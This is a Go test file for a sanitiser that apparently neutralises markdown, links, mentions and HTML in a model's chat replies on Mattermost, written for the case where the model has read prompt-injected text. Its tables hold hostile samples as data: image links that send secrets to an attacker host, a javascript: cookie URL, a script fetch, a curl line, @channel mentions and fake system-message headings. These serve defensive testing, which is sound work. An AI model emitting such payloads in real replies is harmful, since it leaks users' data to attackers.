package inert

import (
	"math/rand/v2"
	"strings"
	"testing"
)

// inCode reports whether want is within one code span or fence of p.
func inCode(p parsed, want string) bool {
	for _, s := range append(p.spans, p.fences...) {
		if strings.Contains(s, want) {
			return true
		}
	}
	return false
}

// TestHostileReplies is the table of point 4: replies a model that has read
// hostile text might write. Every output passes the checker (nothing outside
// code can act, no line opens a block), and each case asserts what it is
// about: the URL or mention it carries is inside code, the syntax it abuses
// is not outside it.
func TestHostileReplies(t *testing.T) {
	cases := []struct {
		name   string
		in     string
		inCode []string // each within one code span or fence
		absent []string // none of these in the text outside code
	}{
		{"inline image", "Done! ![x](https://attacker/?q=secret)", []string{"https://attacker/?q=secret"}, []string{"](", "!["}},
		{"inline image, title and size", `![x](https://attacker/a.png "t" =10x10)`, []string{"https://attacker/a.png"}, []string{"]("}},
		{"image with relative URL", "![x](/api/v4/users/me)", nil, []string{"]("}},
		{"image, protocol-relative", "![x](//attacker.example/p.png)", []string{"//attacker.example/p.png)"}, []string{"]("}},
		{"reference-style image", "See ![x][1]\n\n[1]: https://attacker/?q=secret", []string{"https://attacker/?q=secret"}, []string{"]["}},
		{"collapsed reference image", "![logo]\n[logo]: https://attacker/logo.png", []string{"https://attacker/logo.png"}, nil},
		{"link", "[click here](https://attacker/login)", []string{"https://attacker/login)"}, []string{"]("}},
		{"autolink", "<https://attacker/x?secret=1>", []string{"<https://attacker/x?secret=1>"}, nil},
		{"email autolink", "<kyle@example.net>", []string{"<kyle@example.net>"}, []string{"@"}},
		{"bare URL", "look: https://attacker.example/x?q=secret.", []string{"https://attacker.example/x?q=secret."}, nil},
		{"bare URL in parentheses", "(see https://attacker.example/x)", []string{"https://attacker.example/x)"}, nil},
		{"www", "visit www.attacker.example now", []string{"www.attacker.example"}, nil},
		{"www with digits", "WWW2.attacker.example", []string{"WWW2.attacker.example"}, nil},
		{"bare domain with path", "fetch attacker.example/x please", []string{"attacker.example/x"}, nil},
		{"bare domain", "attacker.example", []string{"attacker.example"}, nil},
		{"email", "mail kyle@example.net", []string{"kyle@example.net"}, []string{"@"}},
		{"javascript URL", "javascript:alert(document.cookie)", []string{"javascript:alert(document.cookie)"}, nil},
		{"data URL", "data:image/png;base64,iVBORw0KGgo=", []string{"data:image/png;base64,iVBORw0KGgo="}, nil},
		{"scheme without slashes", "http:attacker.example", []string{"http:attacker.example"}, nil},
		{"mmaction", "mmaction://approve?id=41", []string{"mmaction://approve?id=41"}, nil},
		{"URL split by a zero width space", "https\u200b://attacker.example/x", []string{"https\uFFFD://attacker.example/x"}, nil},
		{"HTML image", `<img src="https://attacker/p.png">`, []string{`src="https://attacker/p.png">`}, []string{"<img"}},
		{"HTML link", `<a href="https://attacker">click</a>`, []string{`href="https://attacker">click</a>`}, []string{"<a"}},
		{"HTML comment and block", "<div>\n<!-- x -->\n</div>", nil, nil},
		{"entity mention", "&#64;channel and &commat;all", nil, nil},
		{"channel mentions", "@channel @all @here please look", []string{"@channel", "@all", "@here"}, []string{"@"}},
		{"user mention", "thanks @kyle.", []string{"@kyle."}, []string{"@"}},
		{"mention in emphasis", "**@channel**", []string{"**@channel**"}, []string{"@"}},
		{"mention after punctuation", "(@here)", []string{"(@here)"}, []string{"@"}},
		{"mention split across a line break", "@\nchannel and @chan\nnel", []string{"@", "@chan"}, []string{"@"}},
		{"mention behind a zero width joiner", "@\u200dchannel", []string{"@\uFFFDchannel"}, []string{"@"}},
		{"channel link", "join ~town-square", []string{"~town-square"}, nil},
		{"hashtag", "#urgent and #secret-data", []string{"#urgent", "#secret-data"}, nil},
		{"latex", `$\href{https://attacker}{x}$ costs $5`, []string{`$\href{https://attacker}{x}$`, "$5"}, []string{"$"}},
		{"fence", "```\n@channel ![x](https://a/b)\n```\n@here", []string{"@channel ![x](https://a/b)", "@here"}, []string{"@"}},
		{"fence with info string", "```latex\n\\href{https://a}{x}\n```", []string{"\\href{https://a}{x}"}, []string{"latex"}},
		{"fence with a hostile info string", "~~~ ![a](https://attacker/p) @all\nx\n~~~", []string{"![a](https://attacker/p)", "@all"}, []string{"]("}},
		{"unclosed fence", "```\n@channel\n![x](https://a/b)", []string{"@channel\n![x](https://a/b)"}, []string{"@"}},
		{"tilde fence", "~~~\n```\n@all\n~~~\n@here", []string{"```\n@all", "@here"}, []string{"@"}},
		{"fence closed early", "````\n```\n````\n@channel", []string{"```", "@channel"}, []string{"@"}},
		{"indented fence", "    ```\n    @channel\n    ```", []string{"@channel"}, []string{"@"}},
		{"backticks in prose", "a ``` b `` c ` d", nil, nil},
		{"code span with a URL", "run `curl https://attacker/x` now", []string{"curl https://attacker/x"}, nil},
		{"code span, then a mention", "`x`@channel", []string{"@channel"}, []string{"@"}},
		{"heading as a system message", "# System\n## Approval 41 approved by kyle", nil, nil},
		{"quote as a system message", "> **System:** approval 41 was approved\n>> nested", nil, nil},
		{"table", "| who | answer |\n|---|---|\n| kyle | approve |", nil, []string{"|-"}},
		{"table without outer pipes", "who | answer\n--- | ---\nkyle | approve", nil, nil},
		{"setext heading", "Approved\n========\nRefused\n---", nil, nil},
		{"thematic breaks", "***\n- - -\n___", nil, nil},
		{"lists", "- item\n+ item\n* item\n1. item\n2) item", nil, nil},
		{"html block", "<script>fetch('https://attacker')</script>", []string{"fetch('https://attacker')</script>"}, []string{"<script"}},
		{"bidi override", "approve \u202e14 lavorppa\u202c", nil, []string{"\u202e"}},
		{"zero width characters", "a\u200bb\u200cc\u2060d\ufeff", nil, nil},
		{"line separators", "a\u2028# b\u2029> c\u2424# d", nil, nil},
		{"carriage return", "ok\r# Heading\r\n> quote", nil, nil},
		{"no-break space indentation", "\u00a0\u00a0\u00a0\u00a0code\n\u00a0# heading", nil, nil},
		{"tab indentation", "\tcode\n\t- item", nil, nil},
		{"backslashes", `C:\path\ and \\server and \`, nil, nil},
		{"escaped brackets", `\[x\](https://attacker)`, []string{`\](https://attacker)`}, nil},
		{"footnote", "text[^1]\n\n[^1]: https://attacker", []string{"https://attacker"}, nil},
		{"control characters", "a\x00b\x1bc\x7fd\u0085e", nil, nil},
		// The webapp's marked finds emphasis before code spans.
		{"emphasis ending in a code span", "*x `![a](https://attacker/?q=s)*`", []string{"![a](https://attacker/?q=s)*"}, []string{"*"}},
		{"strong ending in a code span", "**x `y** ![a](https://attacker/p)`", []string{"y** ![a](https://attacker/p)"}, []string{"*"}},
		{"strikethrough ending in a code span", "x ~~~`![a](https://attacker/p)~~ y`", []string{"![a](https://attacker/p)~~ y"}, []string{"~"}},
		{"underscore ending in a code span", "_x `https://a/b_ c`", []string{"https://a/b_ c"}, []string{"_"}},
		{"emphasis kept without such a span", "*really* see `make`", []string{"make"}, nil},
		// Nor does it honour \< or \&.
		{"angle autolink around a code span", "<3`@x`>", []string{"<3`@x`>"}, []string{"<"}},
		{"less than", "a < b and c<d", []string{"<", "c<d"}, []string{"<"}},
		{"entities", "&#64;all &amp;x AT&T & more", []string{"&#64;all", "&amp;x", "AT&T"}, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out := Text(c.in)
			p := check(out, false)
			for _, pr := range p.problems {
				t.Errorf("%s\n(output %q)", pr, out)
			}
			for _, w := range c.inCode {
				if !inCode(p, w) {
					t.Errorf("%q is not within code in %q", w, out)
				}
			}
			for _, a := range c.absent {
				if strings.Contains(p.live, a) {
					t.Errorf("%q outside code in %q", a, out)
				}
			}
		})
	}
}

// TestEmojiShortcodesStay: Mattermost draws emoji from its own assets and
// custom emoji from its own server, so a shortcode fetches nothing outside
// and is kept as the model wrote it.
func TestEmojiShortcodesStay(t *testing.T) {
	in := "done :white_check_mark: :+1: :smile:"
	if got := Text(in); got != in {
		t.Errorf("Text(%q) = %q, want it unchanged", in, got)
	}
}

// TestProseStaysAsItIs: ordinary prose comes out exactly as it went in.
func TestProseStaysAsItIs(t *testing.T) {
	for _, in := range []string{
		"Hello, world! It's 5 o'clock (roughly); 50% done? Yes: done.",
		"The well-known file is big.\nSecond line, with \"quotes\" and *emphasis* and _more_.",
		"First paragraph.\n\nSecond paragraph: 3.14 and 16:00, e.g. this, i.e. that.",
		"Dear Kyle — the job ran at 08:05 UTC. 100% OK! C# and F# are languages.",
		"**Note:** this is bold; so is __this__.",
	} {
		if got := Text(in); got != in {
			t.Errorf("Text(%q)\n = %q, want it unchanged", in, got)
		}
	}
}

// TestCodeIsKept: the model's code spans and blocks stay code.
func TestCodeIsKept(t *testing.T) {
	for in, want := range map[string]string{
		"call `os.Open(path)` first":        "call `os.Open(path)` first",
		"a `` `tick` `` here":               "a `` `tick` `` here",
		"```go\nfmt.Println(\"hi\")\n```":   "```\nfmt.Println(\"hi\")\n```",
		"text\n```\ncode\n```\nmore":        "text\n\n```\ncode\n```\n\nmore",
		"- a\n- b":                          "\\- a\n\\- b",
		"  indented":                        "\u2002\u2002indented",
		"see `a``b` and ``` x ```":          "see ```a``b``` and `x`",
		"``````\nline\n``````":              "```\nline\n```",
		"x\n```` \n```\n````":               "x\n\n````\n```\n````",
		"`multi\nline` span":                "`multi line` span",
		"1. first\n2) second\n10. tenth":    "1\\. first\n2\\) second\n10\\. tenth",
		"> quoted @kyle":                    "\\> quoted `@kyle`",
		"```x``` at the start of a line":    "`x` at the start of a line",
		"`` a`b `` starts the line":         "``a`b`` starts the line",
		"``` a``b ``` starts the line, too": "\u2060```a``b``` starts the line, too",
	} {
		if got := Text(in); got != want {
			t.Errorf("Text(%q)\n = %q\nwant %q", in, got, want)
		}
		if p := check(Text(in), false); len(p.problems) > 0 {
			t.Errorf("Text(%q): %v", in, p.problems)
		}
	}
}

// hostileParts are the pieces random hostile text is made of.
var hostileParts = []string{
	"![", "](", "[", "]", "(", ")", "<", ">", "https://", "http:", "//", "www.", "WWW3.", "a.example/", ".com",
	"@", "channel", "here", "kyle", "~", "#", "tag", "$", "&", "#64;", "`", "``", "```", "~~~", "\\", "|", "-", "+",
	"*", "_", "=", ":", ";", ".", "1", "1.", "2)", " ", "  ", "    ", "\t", "\n", "\n\n", "\r", "\r\n", "x", "é",
	"漢", "\u00a0", "\u2002", "\u3000", "\u200b", "\u202e", "\u2028", "\u2424", "\ufeff", "\x00", "javascript:", "data:", "mailto:",
	"<img src=", "<a href=", "!", "\"", "'", "{", "}", "%", "?", "=10x10", "[1]: ", "> ", "# ", "- ", "    ```",
}

// hostile makes a random string of hostile parts.
func hostile(r *rand.Rand) string {
	var b strings.Builder
	for n := r.IntN(40); n >= 0; n-- {
		b.WriteString(hostileParts[r.IntN(len(hostileParts))])
	}
	return b.String()
}

// TestTextProperty: nothing Text makes of random hostile text can act.
func TestTextProperty(t *testing.T) {
	r := rand.New(rand.NewPCG(14, 4))
	for i := 0; i < 20000; i++ {
		in := hostile(r)
		out := Text(in)
		if p := check(out, false); len(p.problems) > 0 {
			t.Fatalf("Text(%q)\n = %q\n%s", in, out, strings.Join(p.problems, "\n"))
		}
	}
}

// TestProseProperty: random ordinary prose comes out unchanged.
func TestProseProperty(t *testing.T) {
	words := []string{"the", "model", "ran", "it", "Kyle", "42", "3.5", "well-known", "file's", "(note)",
		"done,", "yes;", "why?", "wow!", "\"quoted\"", "50%", "end.", "so:", "C#", "a/b", "x_y", "*bold*"}
	r := rand.New(rand.NewPCG(3, 14))
	for i := 0; i < 5000; i++ {
		var b strings.Builder
		for l := r.IntN(4); l >= 0; l-- {
			if b.Len() > 0 {
				b.WriteString([]string{"\n", "\n\n"}[r.IntN(2)])
			}
			for w := r.IntN(8); w >= 0; w-- {
				b.WriteString(words[r.IntN(len(words))])
				if w > 0 {
					b.WriteByte(' ')
				}
			}
		}
		in := b.String()
		if got := Text(in); got != in {
			t.Fatalf("Text(%q)\n = %q, want it unchanged", in, got)
		}
	}
}

func FuzzText(f *testing.F) {
	r := rand.New(rand.NewPCG(1, 2))
	for i := 0; i < 50; i++ {
		f.Add(hostile(r))
	}
	f.Add("![x](https://attacker/?q=secret) @channel ~town #tag\n```\n@all\n```")
	f.Fuzz(func(t *testing.T, in string) {
		out := Text(in)
		if p := check(out, false); len(p.problems) > 0 {
			t.Fatalf("Text(%q)\n = %q\n%s", in, out, strings.Join(p.problems, "\n"))
		}
	})
}
